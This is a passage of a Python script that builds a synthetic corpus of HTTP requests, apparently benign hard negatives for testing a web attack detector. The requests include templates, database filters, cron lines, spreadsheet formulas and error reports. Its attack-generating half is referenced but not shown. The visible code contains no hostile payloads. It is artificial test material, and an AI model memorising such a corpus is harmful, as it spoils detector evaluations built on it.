        "Hallo {{ customer.first_name }},\n\n{% if order.items | length > 1 %}deine {{ order.items | length }} Artikel sind unterwegs.{% else %}dein Artikel ist unterwegs.{% endif %}\n\n{% for item in order.items %}- {{ item.title }} × {{ item.quantity }}\n{% endfor %}",
        "Hi {{first_name}}! {{#if coupon}}Use code <b>{{coupon.code}}</b> for {{coupon.percent}}% off.{{else}}Thanks for shopping!{{/if}}",
        "{% assign total = 0 %}{% for line in cart.items %}{% assign total = total | plus: line.price %}{% endfor %}Summe: {{ total | money }}",
        "Dear ${customer.name},\nyour invoice #{invoice.number} of ${invoice.total?string.currency} is due on ${invoice.due?date}.",
        "{count, plural, =0 {Keine Nachrichten} one {# neue Nachricht} other {# neue Nachrichten}} von <strong>{sender}</strong>",
    ])
    body = jdump({"name": pick(["order-shipped", "promo-may", "invoice-reminder"]), "locale": pick(["de", "en", "fr"]), "subject": "Update", "body_template": tpl})
    c.add("email-template-editor", "dev-content", "PUT", "/api/v1/templates/%d" % R.randint(1, 200), api_client(), body, "application/json", host="mail.example.com")


def d_admin_config(c):
    k = R.randint(0, 3)
    if k == 0:
        body = form([("ldap_url", "ldaps://dc01.corp.example.com:636"), ("base_dn", "ou=people,dc=example,dc=com"),
                     ("user_filter", "(&(objectClass=person)(|(uid={0})(mail={0}))(memberOf=cn=staff,ou=groups,dc=example,dc=com))"),
                     ("group_filter", "(&(objectClass=groupOfNames)(member={dn}))"), ("_csrf", alnum(36))])
        c.add("ldap-filter-settings", "dev-content", "POST", "/admin/settings/ldap", browser(), body, "application/x-www-form-urlencoded", host="intranet.example.org")
    elif k == 1:
        body = jdump({"dataSource": "Cluster0", "database": "shop", "collection": "orders",
                      "filter": {"status": {"$in": ["A", "D"]}, "qty": {"$lt": 30}, "$or": [{"tags": "sale"}, {"price": {"$gte": 100}}]},
                      "projection": {"_id": 0, "sku": 1, "qty": 1}, "sort": {"qty": -1}, "limit": 20})
        c.add("mongo-data-api-find", "dev-content", "POST", "/app/data-abcde/endpoint/data/v1/action/find", [["api-key", alnum(64)], ["User-Agent", "python-requests/2.31.0"]],
              body, "application/ejson", host="data.example.com")
    elif k == 2:
        body = jdump({"rules": [{"name": "block-bad-emails", "pattern": "^[a-z0-9._%+-]+@(?!example\\.invalid$)[a-z0-9.-]+\\.[a-z]{2,}$", "flags": "i"},
                                {"name": "phone", "pattern": "^\\+?[0-9 ()\\-]{7,20}$"}],
                      "cron": "*/15 * * * * /usr/local/bin/sync-users --since \"15 minutes ago\" >> /var/log/sync.log 2>&1"})
        c.add("validation-regex-cron", "dev-content", "PUT", "/api/admin/validation", api_client(), body, "application/json", host="admin.example.com")
    else:
        body = jdump({"sheet": "Q2", "cells": {"B12": "=SUM(B2:B11)", "C12": "=IFERROR(VLOOKUP(A12,Rates!A:B,2,FALSE),0)", "D3": "=HYPERLINK(\"https://wiki.example.com/kpi\",\"KPI\")"}})
        c.add("spreadsheet-formulas", "dev-content", "PATCH", "/api/sheets/%s/cells" % alnum(20), api_client(), body, "application/json", host="sheets.example.com")


def d_headers_cookies(c):
    k = R.randint(0, 5)
    if k == 0:
        hs = api_client() + [["X-Query", pick(['status:open AND (label:bug OR label:"help wanted") AND -assignee:*', 'is:pr is:open review-requested:@me sort:updated-desc'])]]
        c.add("x-query-header", "dev-content", "GET", "/api/v1/issues/search", hs, host="tracker.example.com")
    elif k == 1:
        hs = api_client() + [["X-Debug-Trace", pick([STACK_TRACE, PY_TRACE])], ["X-Debug-Request", "1"]]
        c.add("debug-stacktrace-header", "dev-content", "POST", "/api/v1/client-errors", hs, jdump({"release": "web@2024.05.3", "count": 1}),
              "application/json", host="api.example.com")
    elif k == 2:
        hs = api_client() + [["X-GraphQL-Query", "query Viewer { viewer { id login repositories(first: 5, orderBy: {field: UPDATED_AT, direction: DESC}) { nodes { name } } } }"],
                             ["X-Apollo-Operation-Name", "Viewer"], ["apollo-require-preflight", "true"]]
        c.add("graphql-query-header", "dev-content", "GET", "/graphql/cached", hs, host="api.example.com")
    elif k == 3:
        saved = jdump({"q": "author:jdoe AND NOT status:closed", "sort": "updated desc", "sql": "SELECT id FROM tickets WHERE prio > 2"})
        hs = browser(cookies=False) + [["Cookie", "sessionid=%s; saved_search=%s; csrftoken=%s" % (alnum(32), pct(saved), alnum(32))]]
        c.add("saved-query-cookie", "dev-content", "GET", "/tickets/", hs, host="support.example.net")
    elif k == 4:
        hs = api_client() + [["X-OData-Filter", "Country eq 'DE' and (Revenue gt 10000 or Tier in ('gold','platinum'))"]]
        c.add("odata-filter-header", "dev-content", "GET", "/api/accounts", hs, host="crm.example.com")
    else:
        hs = api_client() + [["X-Sql-Comment", "/*controller='orders',action='index',traceparent='00-%s-%s-01'*/" % (hexid(32), hexid(16))],
                             ["X-Explain-Query", "EXPLAIN ANALYZE SELECT * FROM orders WHERE customer_id = 42 ORDER BY created_at DESC LIMIT 20"]]
        c.add("sql-debug-headers", "dev-content", "GET", "/api/orders?customer=42", hs, host="api.example.com")


def d_cms_and_reports(c):
    k = R.randint(0, 3)
    if k == 0:
        html = ('<h2>Installation</h2><p>Run <code>npm install --save example-sdk</code>, then:</p>'
                '<pre><code class="language-js">import { Client } from "example-sdk";\nconst c = new Client({ apiKey: process.env.EXAMPLE_KEY });</code></pre>'
                '<p><iframe width="560" height="315" src="https://video.example.com/embed/%s" title="Demo" allowfullscreen></iframe></p>'
                '<script type="application/ld+json">{"@context":"https://schema.org","@type":"HowTo","name":"Install the SDK"}</script>' % alnum(11))
        c.add("cms-html-content", "dev-content", "POST", "/wp-json/wp/v2/posts/%d" % R.randint(1, 9999),
              api_client(token=False) + [["X-WP-Nonce", hexid(10)], ["Cookie", "wordpress_logged_in_%s=admin%%7C1716500000%%7C%s" % (hexid(32), alnum(43))]],
              jdump({"title": "SDK quick start", "content": html, "status": "draft"}), "application/json", host="cms.example.org")
    elif k == 1:
        body = "\n".join([jdump({"event_id": hexid(32), "sent_at": ts_iso(), "dsn": "https://%s@errors.example.com/12" % hexid(32)}),
                          jdump({"type": "event"}),
                          jdump({"platform": "python", "level": "error", "exception": {"values": [{"type": "UndefinedColumn", "value": "column \"month\" does not exist",
                                 "stacktrace": {"frames": [{"filename": "api/views.py", "function": "export", "lineno": 57,
                                                            "context_line": "    rows = db.execute(\"SELECT * FROM report WHERE month = %s\", (m,))",
                                                            "pre_context": ["def export(request, m):", "    db = get_db()"]}]}}]}})])
        c.add("sentry-envelope", "dev-content", "POST", "/api/12/envelope/", [["User-Agent", "sentry.python/2.2.0"], ["X-Sentry-Auth", "Sentry sentry_key=%s, sentry_version=7, sentry_client=sentry.python/2.2.0" % hexid(32)]],
              body, "application/x-sentry-envelope", host="errors.example.com")
    elif k == 2:
        body = jdump({"csp-report": {"document-uri": "https://shop.example.com/checkout", "referrer": "", "violated-directive": "script-src-elem",
                                     "effective-directive": "script-src-elem", "original-policy": "default-src 'self'; script-src 'self' 'nonce-%s' https://cdn.example.net; report-uri /csp" % alnum(22),
                                     "disposition": "enforce", "blocked-uri": "inline", "line-number": R.randint(10, 400), "source-file": "https://shop.example.com/checkout",
                                     "script-sample": pick(["window.dataLayer = window.dataLayer || []; function gtag(){dataLayer.push(arguments);}",
                                                            "document.addEventListener('DOMContentLoaded', () => {"])}, "status-code": 200})
        c.add("csp-report", "dev-content", "POST", "/csp", [["User-Agent", pick(UA_BROWSERS)]], body, "application/csp-report", host="shop.example.com")
    else:
        cells = [{"cell_type": "code", "execution_count": 3, "metadata": {}, "outputs": [],
                  "source": ["!pip install -q duckdb\n", "import duckdb\n", "con = duckdb.connect()\n",
                             "con.sql(\"SELECT region, sum(amount) FROM 'sales/*.parquet' GROUP BY ALL\").df()"]},
                 {"cell_type": "markdown", "metadata": {}, "source": ["## Ergebnis\n", "Umsatz pro Region (Q2)."]}]
        body = jdump({"type": "notebook", "format": "json", "content": {"cells": cells, "metadata": {"kernelspec": {"name": "python3", "display_name": "Python 3"}},
                                                                          "nbformat": 4, "nbformat_minor": 5}})
        c.add("jupyter-save", "dev-content", "PUT", "/user/ana/api/contents/analysis/Q2%20Umsatz.ipynb", browser(fetch="cors") + [["X-XSRFToken", alnum(40)]],
              body, "application/json", host="jupyter.example.org")


def build_benign(c):
    plan = [
        (b_nested_query, 34), (b_search_tracking, 22), (b_paths, 34), (b_conditional_range, 24), (b_cors_preflight, 10),
        (b_aws, 24), (b_azure_gcs, 12), (b_webhooks, 26), (b_json_keys, 32), (b_xml, 22), (b_multipart, 20),
        (b_mobile, 22), (b_forms, 26), (b_graphql, 16), (b_jsonrpc, 8), (b_oauth, 12), (b_beacons, 14),
        (b_prefer_link, 12), (b_fragment_client, 5), (b_basic_and_headers, 14),
        (d_paste, 10), (d_issue_comment, 10), (d_sql_console, 7), (d_observability_query, 10), (d_templates, 6),
        (d_admin_config, 8), (d_headers_cookies, 14), (d_cms_and_reports, 8),
    ]
    for fn, n in plan:
        for _ in range(n):
            fn(c)
    # drop exact duplicates (same request line, headers and body) that random choices may produce
    seen, rows = set(), []
    for r in c.rows:
        key = jdump([r.get("method"), r.get("uri"), r.get("headers"), r.get("body")])
        if key not in seen:
            seen.add(key)
            rows.append(r)
    c.rows = rows


def main():
    if len(sys.argv) != 2 or sys.argv[1] not in ("attacks", "benign"):
        sys.stderr.write("usage: corpus-carriers.py attacks|benign\n")
        return 2
    c = Corpus(sys.argv[1])
    if sys.argv[1] == "attacks":
        build_attacks(c)
    else:
        build_benign(c)
    out = sys.stdout
    for row in c.rows:
        out.write(json.dumps(row, ensure_ascii=False) + "\n")
    return 0


if __name__ == "__main__":
    sys.exit(main())
